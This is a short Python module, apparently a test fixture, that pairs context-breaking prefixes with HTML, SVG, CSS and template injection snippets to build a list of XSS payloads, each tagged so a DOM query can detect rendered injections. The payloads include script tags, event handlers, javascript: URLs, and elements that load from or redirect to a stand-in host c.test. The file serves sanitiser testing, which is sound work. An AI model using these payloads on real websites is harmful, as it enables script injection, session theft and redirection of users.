"""Words that try to become part of a page: ways out of a context times things to do outside.

Every element and attribute they would make carries `data-injected`, so that one question finds
any of them. The ways and the things are those that HTML, SVG, CSS, JavaScript and templates
offer. Source: WHATWG HTML, the parsing states that end on these signs, and event handlers.
"""

from __future__ import annotations

WAYS_OUT = (
    "", '">', "'>", ">", "`>", "</script>", "</title>", "</style>", "</textarea>", "</noscript>",
    "</svg>", "</span></p></main>", "-->", "--!>", "]]>", "&quot;&gt;", "&#34;&#62;", "%22%3E",
    "\\x22\\x3e", '\\">', "\u2028", "\u00a0\u200b", "{{'", "{% raw %}", "*/", "<!--", "<![CDATA[",
)  # fmt: skip
THINGS_TO_DO = (
    "<script data-injected>alert(1)</script>",
    "<script data-injected src=http://c.test/x.js></script>",
    "<img data-injected src=x onerror=alert(1)>",
    "<img data-injected src=http://c.test/x.png>",
    "<svg data-injected onload=alert(1)>",
    "<svg><script data-injected href=http://c.test/x.js></script></svg>",
    "<iframe data-injected src='javascript:alert(1)'></iframe>",
    "<iframe data-injected srcdoc='<script>alert(1)</script>'></iframe>",
    "<a data-injected href='javascript:alert(1)'>pattern</a>",
    "<link data-injected rel=stylesheet href=http://c.test/x.css>",
    "<base data-injected href='http://c.test/'>",
    "<meta data-injected http-equiv=refresh content='0;url=http://c.test/'>",
    "<form data-injected action=http://c.test/><button>go</button></form>",
    "<object data-injected data=http://c.test/x></object>",
    "<embed data-injected src=http://c.test/x>",
    "<style data-injected>@import 'http://c.test/x.css';</style>",
    "<details data-injected open ontoggle=alert(1)>pattern</details>",
    "<input data-injected autofocus onfocus=alert(1)>",
    "<video data-injected><source onerror=alert(1) src=x></video>",
    "<math><mi data-injected xlink:href='javascript:alert(1)'>x</mi></math>",
    " data-injected onmouseover=alert(1) onfocus=alert(1) autofocus tabindex=0 x=",
    "{{ 7 * 7 }}${alert(1)};alert(1)//",
)
HOSTILE = tuple(out + thing for out in WAYS_OUT for thing in THINGS_TO_DO)
INJECTED = "document.querySelectorAll('[data-injected]').length"
